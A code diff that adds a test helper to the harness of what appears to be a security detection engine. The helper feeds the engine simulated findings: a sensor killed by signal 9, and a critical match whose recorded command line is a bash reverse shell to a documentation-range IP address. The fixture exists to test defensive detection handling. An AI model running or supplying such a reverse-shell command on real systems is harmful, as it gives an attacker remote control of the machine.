@@ -151,6 +151,24 @@ impl World {
         self.engine.check_in(device, check_in).await.unwrap();
     }
 
+    /// The sensor of a device found an attack and was ended.
+    pub async fn found(&self, device: &str) {
+        let index = self.engine.device_why(&operator(), device).unwrap().device.device;
+        let sent = serde_json::json!({ "stream": "s", "lost": 2, "findings": [
+            {
+                "number": 1, "kind": "match", "rule": "r-1", "title": "Reverse <b>shell", "severity": "critical",
+                "class": "process_creation", "pack": "linux", "version": 3, "tags": ["attack.t1059.004"],
+                "fields": { "CommandLine": "bash -i >& /dev/tcp/198.51.100.7/443", "User": "www-data" },
+                "count": 3, "first_ms": now_ms() - 60_000, "last_ms": now_ms(),
+            },
+            {
+                "number": 2, "kind": "sensor", "trouble": "killed", "severity": "high", "detail": "signal 9 by uid 0",
+                "count": 1, "first_ms": now_ms(), "last_ms": now_ms(),
+            },
+        ] });
+        self.engine.detections(index, serde_json::from_value(sent).unwrap()).await.unwrap();
+    }
+
     /// Starts a rollout of a release with one file.
     pub async fn rollout(&self) -> u64 {
         let now = now_ms();
